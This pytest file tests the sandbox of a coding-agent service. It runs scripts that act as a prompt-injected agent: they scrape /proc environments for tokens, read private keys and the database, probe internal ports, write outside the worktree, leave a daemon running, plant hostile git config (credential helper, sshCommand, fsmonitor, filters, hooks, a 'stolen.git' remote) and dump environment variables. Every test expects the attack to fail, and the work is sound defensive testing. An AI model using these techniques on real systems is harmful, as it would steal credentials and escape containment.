"""The trust boundary, attacked: the `command` engine plays a prompt-injected agent, under real
bubblewrap, real git and the real service. Each attack must fail and leave no trace outside the
worktree. Every test is bounded in time and uses loopback only."""

from __future__ import annotations

import asyncio
import json
import os
import shlex
import signal
import socket
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
from sqlalchemy import text

from bot.agents import AgentRequest, EngineConfig, run_agent
from bot.redact import MARK
from bot.sandbox import BwrapSandbox
from tests.conftest import WEBHOOK_SECRET
from tests.engine_support import agent_calls, command_agent

PYTHON = sys.executable


@pytest.fixture(autouse=True)
def bubblewrap(tmp_path):
    problem = BwrapSandbox(runs_dir=tmp_path / "probe", protected=[]).problem()
    if problem:
        if os.environ.get("CI"):
            pytest.fail(f"bubblewrap must work in CI: {problem}")
        pytest.skip(problem)


class Listener:
    """A TCP server on loopback that counts who connected: an attacker's, Redis standing in, or
    (with `answers`) a model provider that answers every request with `ok`."""

    def __init__(self, *, answers: bool = False) -> None:
        self.answers = answers
        self.connections = 0
        self.port = 0

    async def __aenter__(self) -> Listener:
        async def handle(reader, writer):
            self.connections += 1
            if self.answers:
                await reader.readuntil(b"\r\n\r\n")
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
                await writer.drain()
            writer.close()

        self.server = await asyncio.start_server(handle, "127.0.0.1", 0)
        self.port = self.server.sockets[0].getsockname()[1]
        return self

    async def __aexit__(self, *exc) -> None:
        self.server.close()


def processes_with(marker: str) -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
        except OSError:
            pass
    return found


def decoy_service(secret: str) -> subprocess.Popen:
    """A process of agentry's user whose environment holds agentry's secrets, as the service's does."""
    env = {**os.environ, "AGENTRY_WEBHOOK_SECRET": secret, "AGENTRY_GIT_TOKEN": "ghs_decoytokendecoytoken"}
    return subprocess.Popen([PYTHON, "-c", "import time; time.sleep(60)", "agentry-decoy"], env=env)


ATTACKER = r'''
import json, os, socket, subprocess, sys, urllib.request
from pathlib import Path

report = {}
environs = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            environs.append(Path(f"/proc/{pid}/environ").read_bytes())
        except OSError:
            pass
report["pids"] = sorted(int(pid) for pid in os.listdir("/proc") if pid.isdigit())
report["secret_in_some_environ"] = any(SECRET.encode() in env or b"ghs_decoy" in env for env in environs)
report["own_env"] = sorted(os.environ)
for name, path in TARGETS.items():
    try:
        if os.path.isdir(path):
            report[name] = ["listed", os.listdir(path)]
        else:
            report[name] = ["read", Path(path).read_text(errors="replace")[:100]]
    except OSError as exc:
        report[name] = ["refused", type(exc).__name__]
for name, port in PORTS.items():
    try:
        socket.create_connection(("127.0.0.1", port), timeout=2).close()
        report[name] = "connected"
    except OSError as exc:
        report[name] = type(exc).__name__
    try:
        urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5).read()
        report[name + "_via_proxy"] = "connected"
    except Exception as exc:
        report[name + "_via_proxy"] = str(exc)[:80]
url = f"http://127.0.0.1:{PROVIDER}/v1/models"
report["provider_via_proxy"] = urllib.request.urlopen(url, timeout=5).read().decode()
direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
report["provider_direct"] = direct.open(url, timeout=5).read().decode()
try:
    Path(OUTSIDE).write_text("escaped")
    report["write_outside"] = "written"
except OSError as exc:
    report["write_outside"] = type(exc).__name__
subprocess.Popen(["sh", "-c", f"(setsid {sys.executable} -c 'import time; time.sleep(120)' {MARKER} &)"])
print(json.dumps(report))
'''


async def test_an_attacking_agent_reaches_nothing_of_agentry(deps, tmp_path):
    data = deps.settings.data_dir
    for path in (data / "worktrees" / "999", data / "repos" / "1.git", data / "worktrees" / "7"):
        path.mkdir(parents=True)
    (data / "worktrees" / "999" / "other-project.txt").write_text("another project's work")
    (data / "repos" / "1.git" / "config").write_text("[remote \"origin\"]\n\turl = https://example.com/x\n")
    key = data / "github-app.pem"
    key.write_text("-----BEGIN PRIVATE KEY-----\nsecret\n-----END PRIVATE KEY-----\n")
    marker = f"agentry-daemon-{uuid.uuid4().hex}"
    decoy = decoy_service(WEBHOOK_SECRET)
    try:
        async with Listener() as redis, Listener() as api, Listener(answers=True) as provider:
            script = tmp_path / "attacker.py"
            targets = {"database": str(data / "agentry.db"), "key": str(key), "data_dir": str(data),
                       "other_worktree": str(data / "worktrees" / "999"), "mirror": str(data / "repos" / "1.git"),
                       "host_home": str(Path.home()), "tests": str(Path(__file__).parent)}
            script.write_text(ATTACKER.replace("SECRET", repr(WEBHOOK_SECRET)).replace("TARGETS", repr(targets))
                              .replace("PORTS", repr({"redis": redis.port, "api": api.port}))
                              .replace("PROVIDER", str(provider.port)).replace("MARKER", repr(marker))
                              .replace("OUTSIDE", repr(str(tmp_path / "escaped.txt"))))
            config = EngineConfig(command_line=(PYTHON, str(script)), sandbox=deps.sandbox, timeout_seconds=60,
                                  base_env={"PATH": os.environ["PATH"],
                                            "OPENAI_BASE_URL": f"http://127.0.0.1:{provider.port}/v1"},
                                  home_parent=str(data / "homes"))
            (data / "homes").mkdir()
            request = AgentRequest(engine="command", prompt="do it", cwd=data / "worktrees" / "7", kind="execute")
            result = await run_agent(request, config, log_path=tmp_path / "run.log")
    finally:
        decoy.kill()
        decoy.wait()
    assert result.ok, result.error
    report = json.loads(result.final_message)
    assert report["secret_in_some_environ"] is False
    assert len(report["pids"]) < 10  # the sandbox's own processes, none of the host's
    assert not [name for name in report["own_env"] if name.startswith("AGENTRY_") and name not in (
        "AGENTRY_STEP_KIND", "AGENTRY_READ_ONLY")]
    for name in ("database", "key", "other_worktree", "mirror", "tests"):
        assert report[name][0] == "refused" or report[name] == ["listed", []], (name, report[name])
    # Only the way to the interpreter's install tree shows in the home, as empty directories.
    interpreter = [Path(sys.base_prefix), Path(os.path.realpath(PYTHON)).parent.parent]
    leading = {path.relative_to(Path.home()).parts[0] for path in interpreter if path.is_relative_to(Path.home())}
    assert report["host_home"][0] == "refused" or set(report["host_home"][1]) <= leading
    assert report["data_dir"][0] == "listed" and set(report["data_dir"][1]) <= {"worktrees", "homes", "sandbox"}
    assert report["redis"] == "ConnectionRefusedError" and report["api"] == "ConnectionRefusedError"
    assert "403" in report["redis_via_proxy"] and "403" in report["api_via_proxy"]
    assert redis.connections == 0 and api.connections == 0
    assert report["provider_via_proxy"] == "ok" and report["provider_direct"] == "ok"
    assert not (tmp_path / "escaped.txt").exists()  # at most it landed in the sandbox's private /tmp
    assert processes_with(marker) == []  # the double-forked daemon died with the run


async def test_a_timeout_kills_everything_the_sandbox_started(deps, tmp_path):
    marker = f"agentry-daemon-{uuid.uuid4().hex}"
    body = (f"import subprocess, sys, time\nsubprocess.Popen(['sh', '-c', \"(setsid {PYTHON} -c 'import time; "
            f"time.sleep(120)' {marker} &)\"])\nprint('started', flush=True)\ntime.sleep(120)\n")
    script = tmp_path / "sleeper.py"
    script.write_text(body)
    (deps.settings.data_dir / "homes").mkdir(parents=True)
    worktree = deps.settings.data_dir / "worktrees" / "1"
    worktree.mkdir(parents=True)
    config = EngineConfig(command_line=(PYTHON, str(script)), sandbox=deps.sandbox, timeout_seconds=2,
                          kill_grace_seconds=0.5, base_env={"PATH": os.environ["PATH"]},
                          home_parent=str(deps.settings.data_dir / "homes"))
    started = asyncio.get_running_loop().time()
    result = await run_agent(AgentRequest(engine="command", prompt="", cwd=worktree, kind="execute"), config,
                             log_path=tmp_path / "run.log")
    assert result.timed_out
    assert asyncio.get_running_loop().time() - started < 6
    assert processes_with(marker) == []


async def test_a_read_only_run_cannot_change_the_worktree(deps, tmp_path):
    worktree = deps.settings.data_dir / "worktrees" / "1"
    worktree.mkdir(parents=True)
    (worktree / "README.md").write_text("original\n")
    (deps.settings.data_dir / "homes").mkdir(parents=True)
    script = tmp_path / "writer.py"
    script.write_text("from pathlib import Path\ntry:\n    Path('README.md').write_text('changed')\n"
                      "    print('written')\nexcept OSError as exc:\n    print(type(exc).__name__)\n")
    config = EngineConfig(command_line=(PYTHON, str(script)), sandbox=deps.sandbox, base_env={"PATH": "/usr/bin"},
                          home_parent=str(deps.settings.data_dir / "homes"))
    result = await run_agent(AgentRequest(engine="command", prompt="", cwd=worktree, kind="qa", read_only=True),
                             config, log_path=tmp_path / "run.log")
    assert result.final_message == "OSError"
    assert (worktree / "README.md").read_text() == "original\n"


# The agent's git state is untrusted

GIT_ATTACK = r'''
if kind == "plan":
    def attempt(action):
        try:
            action()
            return "done"
        except Exception as exc:
            return type(exc).__name__
    report = {"write": attempt(lambda: Path("planted.txt").write_text("x")),
              "git_config": subprocess.run(["git", "config", "remote.origin.url", LISTENER]).returncode}
    (state / "plan-report.json").write_text(json.dumps(report))
    plan([{"name": "Do the work", "prompt": "write work.txt", "qa": "skip"}])
elif kind == "execute":
    Path("work.txt").write_text("the agent's work\n")
    hooks = Path(".git/evil-hooks")
    hooks.mkdir()
    for hook in ("pre-commit", "post-commit", "pre-push", "reference-transaction", "post-checkout"):
        (hooks / hook).write_text(f"#!/bin/sh\ntouch {OUTSIDE}/{hook}\n")
        (hooks / hook).chmod(0o755)
    Path(".gitattributes").write_text("* filter=evil\n")
    for key, value in {
        "remote.origin.url": LISTENER, "remote.origin.pushurl": LISTENER, "remote.origin.fetch": "+refs/*:refs/*",
        f"url.{LISTENER}.insteadOf": REMOTE, "http.proxy": LISTENER, "https.proxy": LISTENER,
        "credential.helper": f"!touch {OUTSIDE}/credential; echo password=stolen",
        "core.sshCommand": f"touch {OUTSIDE}/ssh", "remote.origin.receivepack": f"touch {OUTSIDE}/receivepack",
        "remote.origin.uploadpack": f"touch {OUTSIDE}/uploadpack", "core.hooksPath": str(hooks.resolve()),
        "filter.evil.clean": f"sh -c 'touch {OUTSIDE}/filter; cat'", "filter.evil.smudge": "cat",
        "core.fsmonitor": f"touch {OUTSIDE}/fsmonitor", "protocol.allow": "always",
    }.items():
        subprocess.run(["git", "config", key, value], check=True)
    print("done")
'''


async def test_git_config_vectors_send_nothing_and_run_nothing_outside(start, tmp_path, remote):
    outside = tmp_path / "outside"
    outside.mkdir()
    async with Listener() as listener:
        url = f"http://127.0.0.1:{listener.port}/stolen.git"
        names = f"import subprocess\nLISTENER, OUTSIDE, REMOTE = {url!r}, {str(outside)!r}, {str(remote)!r}\n"
        agent = command_agent(tmp_path, names + GIT_ATTACK)
        flow = await start(AGENTRY_ENGINE_COMMAND=f"{shlex.quote(PYTHON)} {shlex.quote(str(agent))}")
        await flow.comment("/agent run")
        protocol = await flow.protocol()
        mirror_config = (flow.deps.settings.data_dir / "repos" / f"{protocol.project_id}.git" / "config").read_text()
    assert [step.status for step in await flow.steps()] == ["completed"], protocol.runtime_state
    assert flow.show(protocol.branch, "work.txt") == "the agent's work"
    assert listener.connections == 0
    assert sorted(path.name for path in outside.iterdir()) == []
    assert str(remote) in mirror_config and "stolen" not in mirror_config and "filter" not in mirror_config
    plan_report = json.loads((tmp_path / "agent-state" / "plan-report.json").read_text())
    assert plan_report["write"] != "done" and plan_report["git_config"] != 0  # plan runs are read-only


# Secrets never reach untrusted output

ENV_DUMP = "import json, os; print(json.dumps(dict(os.environ)))"


async def test_the_feedback_environment_dump_shows_no_secret(start, tmp_path, monkeypatch):
    provider_key = "sk-test-provider-key-0123456789"
    monkeypatch.setenv("OPENAI_API_KEY", provider_key)
    agent = command_agent(tmp_path, """
if kind == "plan":
    plan([{"name": "Loop", "prompt": "loop", "qa": "skip"}])
else:
    print("working")
""")
    api_token = "api-token-for-the-dump-test"
    flow = await start(AGENTRY_ENGINE_COMMAND=f"{shlex.quote(PYTHON)} {shlex.quote(str(agent))}",
                       AGENTRY_API_TOKEN=api_token, AGENTRY_GITLAB_TOKEN="glpat-dump-test-token-000")
    feedback = f"{PYTHON} -c {shlex.quote(ENV_DUMP)}"
    await flow.comment(f"/agent ralph --max-iterations 2 --promise NEVER --feedback {shlex.quote(feedback)} loop")
    protocol = await flow.protocol()
    secrets = (WEBHOOK_SECRET, api_token, "glpat-dump-test-token-000", provider_key)
    ralph_prompts = [call["prompt"] for call in agent_calls(tmp_path, "ralph")]
    assert len(ralph_prompts) == 2 and MARK in ralph_prompts[1] and "OPENAI_API_KEY" in ralph_prompts[1]
    headers = {"Authorization": f"Bearer {api_token}"}
    api = [await (await flow.client.get(path, headers=headers)).text() for path in (
        f"/protocols/{protocol.id}", f"/protocols/{protocol.id}/steps", f"/protocols/{protocol.id}/events",
        "/codex/runs")]
    async with flow.deps.engine.connect() as connection:
        rows = [str(row) for table in ("step_runs", "protocol_runs", "events", "codex_runs")
                for row in (await connection.execute(text(f"SELECT * FROM {table}"))).all()]
    forge = [comment["body"] for comment in flow.github.comments.values()]
    forge += [json.dumps(check) for check in flow.github.check_runs.values()]
    logs = [path.read_text() for path in (flow.deps.settings.data_dir / "runs").glob("*.log")]
    for place, texts in {"prompt": ralph_prompts, "api": api, "database": rows, "forge": forge, "logs": logs}.items():
        for secret in secrets:
            assert not any(secret in item for item in texts), (place, secret)
    assert not any("AGENTRY_WEBHOOK_SECRET" in item or "AGENTRY_API_TOKEN" in item for item in ralph_prompts)


# Turning it off, and a machine without it


async def test_sandbox_none_is_loud_in_health(client_for):
    client = await client_for(AGENTRY_SANDBOX="none")
    body = await (await client.get("/health")).json()
    assert body["checks"]["sandbox"] == "off"
    assert "unsandboxed" in body["warnings"][0]


async def test_without_bubblewrap_runs_fail_saying_what_to_install(deps, tmp_path):
    sandbox = BwrapSandbox(runs_dir=tmp_path / "runs", protected=[])
    sandbox.bwrap = None
    worktree = tmp_path / "wt"
    worktree.mkdir()
    config = EngineConfig(command_line=("/bin/true",), sandbox=sandbox, home_parent=str(tmp_path))
    result = await run_agent(AgentRequest(engine="command", prompt="", cwd=worktree, kind="execute"), config,
                             log_path=tmp_path / "run.log")
    assert not result.ok and "apt-get install bubblewrap" in result.error and "AGENTRY_SANDBOX=none" in result.error


@pytest.fixture
async def client_for(aiohttp_client, settings_env):
    from bot.config import Settings
    from bot.deps import open_deps
    from handlers.web import make_app

    opened = []

    async def make(**env: str):
        deps = await open_deps(Settings.from_env({**settings_env, **env}))
        opened.append(deps)
        return await aiohttp_client(make_app(deps))

    yield make
    for deps in opened:
        await deps.close()


async def test_the_proxy_notes_an_allowed_endpoint_it_cannot_reach(tmp_path):
    from bot.sandbox.policy import Endpoint
    from bot.sandbox.proxy import EgressProxy

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    proxy = EgressProxy([Endpoint("127.0.0.1", port)], tmp_path / "proxy.sock")
    await proxy.start()
    try:
        reader, writer = await asyncio.open_unix_connection(str(tmp_path / "proxy.sock"))
        writer.write(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())
        answer = await asyncio.wait_for(reader.read(), 10)
        writer.close()
    finally:
        await proxy.close()
    assert answer.startswith(b"HTTP/1.1 502") and f"cannot reach 127.0.0.1:{port}".encode() in answer
    assert [entry.split(" (")[0] for entry in proxy.unreachable] == [f"127.0.0.1:{port}"] and not proxy.denied


async def test_a_networked_run_starts_its_command_with_default_signal_handling(tmp_path):
    """The bridge (pid 1, a Python that ignores SIGPIPE) must not hand its ignored signals on."""
    from bot.sandbox import SandboxRequest
    from bot.sandbox.run import run_captured

    sandbox = BwrapSandbox(runs_dir=tmp_path / "runs", protected=[])
    worktree = tmp_path / "wt"
    worktree.mkdir()
    request = SandboxRequest(command=["sh", "-c", "grep -E '^(SigIgn|PPid)' /proc/$$/status; exit 3"],
                             cwd=worktree, env={"PATH": "/usr/bin:/bin"}, network=())
    done = await run_captured(sandbox, request, timeout=30, limit=10_000)
    lines = dict(line.split(":\t") for line in done.stdout.decode().splitlines())
    assert done.returncode == 3
    ignored = int(lines["SigIgn"], 16)
    assert not ignored & (1 << (signal.SIGPIPE - 1) | 1 << (signal.SIGXFSZ - 1) | 1 << (signal.SIGTERM - 1))
    assert lines["PPid"].strip() == "1"
